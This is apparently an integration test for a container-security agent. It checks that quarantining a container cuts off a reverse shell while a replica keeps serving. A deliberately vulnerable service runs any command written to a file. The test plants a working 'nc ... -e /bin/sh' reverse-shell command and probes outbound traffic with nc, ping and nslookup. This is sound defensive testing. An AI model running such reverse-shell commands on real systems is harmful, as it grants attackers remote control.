import { execFileSync } from 'node:child_process'
import { once } from 'node:events'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { connect, createServer, type Server, type Socket } from 'node:net'
import { join } from 'node:path'
import type Docker from 'dockerode'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { Alert } from '../../src/core/event/alert.ts'
import type { HoldView } from '../../src/api/hold-views.ts'
import type { LineageView } from '../../src/api/version-views.ts'
import { type Agent, startAgent, uniqueName } from '../fixtures/agent.ts'
import { execIn, removeContainer, startContainer } from '../fixtures/containers.ts'
import { sharedEngine } from '../fixtures/engine-socket.ts'
import { busyboxImage } from '../fixtures/images.ts'

const image = `${uniqueName('held')}:1`
const names = { victim: uniqueName('victim'), replica: uniqueName('replica') }
const { docker, socket } = sharedEngine()
/** Answers on a port, and runs what the test orders: a service with a hole. */
const service = [
  '/bin/sh',
  '-c',
  'while true; do echo served | nc -l -p 8080; done & while true; do if [ -e /srv/orders ]; then sh /srv/orders; fi; sleep 0.1; done',
]
/** In a list of processes. */
const shellRuns = / sh \/srv\/orders$/m
let folder: string
let network: Docker.Network
let agent: Agent
let victim: Docker.Container
let replica: Docker.Container
/** Where reverse shells call, outside of all containers. */
let outside: Server
let gateway: string
const shells: Socket[] = []

const iptables = (...args: readonly string[]): string =>
  execFileSync('iptables', ['-w', '-t', 'mangle', ...args], { encoding: 'utf8' })

async function addressOf(container: Docker.Container): Promise<string> {
  const { NetworkSettings } = await container.inspect()
  return Object.values(NetworkSettings.Networks)[0]?.IPAddress ?? ''
}

/** Packets that came out of the container so far, as the host counts them. */
function packetsFrom(address: string): number {
  const line = iptables('-nvxL', 'PREROUTING')
    .split('\n')
    .find((each) => each.includes(` ${address} `))
  if (line === undefined) throw new Error(`no rule counts packets of ${address}`)
  return Number(line.trim().split(/\s+/)[0])
}

/** What the service answers to somebody outside; empty: nothing came within a second. */
async function answerOf(container: Docker.Container): Promise<string> {
  const client = connect({ host: await addressOf(container), port: 8080 })
  client.setTimeout(1_000, () => client.destroy())
  client.on('error', () => client.destroy())
  let answer = ''
  client.on('data', (data) => (answer += data.toString()))
  await once(client, 'close')
  return answer.trim()
}

const served = (container: Docker.Container): Promise<void> =>
  expect.poll(() => answerOf(container)).toBe('served')

const held = (): Promise<HoldView[]> => agent.json<HoldView[]>(['quarantine', 'list'])

interface ConfigKey {
  readonly key: string
  readonly value: unknown
}

const portOf = (server: Server): number => (server.address() as { port: number }).port

beforeAll(async () => {
  folder = mkdtempSync('/tmp/snug-held-')
  await busyboxImage(docker, { name: image, labels: { test: image } })
  network = await docker.createNetwork({ Name: uniqueName('held') })
  const { IPAM } = (await network.inspect()) as { IPAM: { Config: { Gateway: string }[] } }
  gateway = IPAM.Config[0]?.Gateway ?? ''
  outside = createServer((shell) => shells.push(shell.on('error', () => undefined)))
  outside.listen(0, gateway)
  await once(outside, 'listening')
  agent = await startAgent({
    docker: socket,
    config: { learn: { floor: '3s', ceiling: '1h', unseen: 1 } },
  })
  const NetworkMode = network.id
  victim = await startContainer(docker, image, service, {
    name: names.victim,
    StopTimeout: 1,
    HostConfig: { NetworkMode, Binds: [`${folder}:/srv`] },
  })
  replica = await startContainer(docker, image, service, {
    name: names.replica,
    HostConfig: { NetworkMode },
  })
  iptables('-A', 'PREROUTING', '-s', await addressOf(victim))
  await agent.until<LineageView>(
    ['image', 'show', image],
    ({ versions }) => versions[0]?.mode === 'alert' && versions[0].containers.running === 2,
  )
})

afterAll(async () => {
  for (const rule of iptables('-S', 'PREROUTING').split('\n')) {
    const [, ...parts] = rule.split(' ')
    if (rule.startsWith('-A') && rule.includes(gateway.replace(/\.\d+$/, '.')))
      iptables('-D', ...parts)
  }
  for (const shell of shells) shell.destroy()
  outside.close()
  for (const container of [victim, replica]) await removeContainer(container)
  await agent[Symbol.asyncDispose]()
  await network.remove()
  rmSync(folder, { recursive: true, force: true })
})

/** Has the service run a shell that somebody outside commands. */
async function openShell(): Promise<Socket> {
  const before = shells.length
  writeFileSync(join(folder, 'orders'), `nc ${gateway} ${portOf(outside)} -e /bin/sh`)
  await expect.poll(() => shells.length).toBeGreaterThan(before)
  rmSync(join(folder, 'orders'))
  const shell = shells.at(-1)
  if (shell === undefined) throw new Error('no shell called')
  return shell
}

async function processes(container: Docker.Container): Promise<string> {
  const { Processes } = (await container.top()) as { Processes: string[][] }
  return Processes.map((line) => line.join(' ')).join('\n')
}

const quarantine = (...args: readonly string[]): Promise<HoldView> =>
  agent.json<HoldView>(['quarantine', ...args, '--reason', 'a reverse shell'])

/** Nothing that a process in the container can try leaves it. */
async function expectSilence(): Promise<void> {
  const address = await addressOf(victim)
  const before = packetsFrom(address)
  const tries = [
    `nc -w 1 ${gateway} ${portOf(outside)}`,
    `echo x | nc -u -w 1 ${gateway} 9`,
    `ping -c 1 -W 1 ${gateway}`,
    // By the engine's resolver, which is outside of the container's cgroup.
    `nslookup -timeout=1 ${names.replica}`,
  ]
  for (const line of tries) {
    const { exitCode } = await execIn(docker, victim, ['/bin/sh', '-c', line])
    expect(line.includes('nc -u') || exitCode !== 0, line).toBe(true)
  }
  expect(await answerOf(victim)).toBe('')
  expect(packetsFrom(address)).toBe(before)
}

test('before it is held, a reverse shell works, and its container resolves names', async () => {
  const shell = await openShell()
  shell.write('echo it ran\n')
  const [answer] = (await once(shell, 'data')) as [Buffer]
  expect(answer.toString()).toContain('it ran')
  const { exitCode } = await execIn(docker, victim, ['/bin/nslookup', names.replica])
  expect(exitCode).toBe(0)
  await served(victim)
  await served(replica)
})

test('a dry run reports which containers it would hold, and holds none', async () => {
  const { containers } = await quarantine(image, '--dry-run')
  expect(new Set(containers.map(({ name }) => name))).toEqual(new Set(Object.values(names)))
  expect(await held()).toEqual([])
  await served(victim)
})

test('the network of a held container ends with its connections, and its replica goes on', async () => {
  expect(await processes(victim)).toMatch(shellRuns)
  const view = await quarantine(names.victim, '--for', '1h')
  expect(view).toMatchObject({ level: 'network', target: `container ${victim.id.slice(0, 12)}` })
  expect(view.containers).toEqual([
    { id: victim.id, name: names.victim, image, state: 'held', ended: 1 },
  ])
  await expect.poll(() => processes(victim)).not.toMatch(shellRuns)
  await expectSilence()
  await served(replica)
  const { State } = await victim.inspect()
  expect(State.Running).toBe(true)
})

test('what it tries meanwhile is an alert', async () => {
  const alerts = await agent.until<Alert[]>(['alert', 'list', '--limit', '1000'], (list) =>
    list.some(({ action, container }) => action === 'blocked' && container?.id === victim.id),
  )
  const ofReplica = alerts.filter(({ container }) => container?.id === replica.id)
  expect(ofReplica.map(({ action }) => action)).not.toContain('blocked')
})

test('it stays held while the agent is dead, and after a restart of agent and container', async () => {
  await agent.kill()
  await expectSilence()
  await agent.start()
  await agent.until<HoldView[]>(['quarantine', 'list'], ([hold]) =>
    Boolean(hold?.containers.every(({ state }) => state === 'held')),
  )
  await expectSilence()
  await victim.restart({ t: 0 })
  iptables('-A', 'PREROUTING', '-s', await addressOf(victim))
  await expectSilence()
})

test('a release gives it its network back, and leaves nothing held', async () => {
  const released = await agent.json<HoldView[]>(['release', names.victim])
  expect(released.map(({ level }) => level)).toEqual(['network'])
  await served(victim)
  expect(await held()).toEqual([])
  const missing = await agent.cli(['release', names.victim])
  expect(missing.code).toBe(1)
  expect(missing.stderr).toContain('HOLD_UNKNOWN')
})

test('it ends by itself', async () => {
  await quarantine(names.victim, '--for', '2s')
  await agent.until<HoldView[]>(['quarantine', 'list'], (list) => list.length === 0)
  await served(victim)
})

test('a frozen container does nothing until its release, and a stopped one does not run', async () => {
  const frozen = await quarantine(names.victim, '--level', 'freeze')
  expect(frozen.containers.map(({ state, because }) => because ?? state)).toEqual(['held'])
  expect((await victim.inspect()).State.Paused).toBe(true)
  await agent.json(['release', frozen.id])
  expect((await victim.inspect()).State.Paused).toBe(false)
  await served(victim)
  await quarantine(names.victim, '--level', 'stop')
  expect((await victim.inspect()).State.Running).toBe(false)
  await victim.start()
  await expect.poll(async () => (await victim.inspect()).State.Running).toBe(false)
  await agent.json(['release', names.victim])
  await victim.start()
  await served(victim)
})

test('a response rule holds the container of a reverse shell, and its replica goes on', async () => {
  const config = JSON.parse(readFileSync(agent.config, 'utf8')) as object
  const rule = { name: 'shells', when: { severity: 'high' }, level: 'network', for: '10m' }
  const respond = { mode: 'hold', rules: [rule] }
  writeFileSync(agent.config, JSON.stringify({ ...config, respond }))
  process.kill(agent.pid, 'SIGHUP')
  await agent.until<ConfigKey[]>(['config', 'explain', '--running'], (keys) =>
    keys.some(({ key, value }) => key === 'respond.mode' && value === 'hold'),
  )
  await openShell()
  const [hold] = await agent.until<HoldView[]>(['quarantine', 'list'], ([found]) =>
    Boolean(found?.containers.every(({ state }) => state === 'held')),
  )
  expect(hold).toMatchObject({ by: 'rule shells', containers: [{ name: names.victim }] })
  await expect.poll(() => processes(victim)).not.toMatch(shellRuns)
  await expectSilence()
  await served(replica)
  expect(await held()).toHaveLength(1)
  await agent.json(['release', names.victim])
  await served(victim)
})

test.each([
  ['what is not there', ['no-such-container'], 1, 'HOLD_UNKNOWN'],
  ['too long a time', [names.victim, '--for', '30d'], 3, 'DECISION_INVALID'],
  [
    'a level that this host cannot hold',
    [names.victim, '--level', 'changes'],
    1,
    'HOLD_UNAVAILABLE',
  ],
] as const)('%s is refused, and holds nothing', async (_, args, code, name) => {
  const answer = await agent.cli(['quarantine', ...args, '--reason', 'a test'])
  expect(answer.code).toBe(code)
  expect(answer.stderr).toContain(name)
  expect(await held()).toEqual([])
})
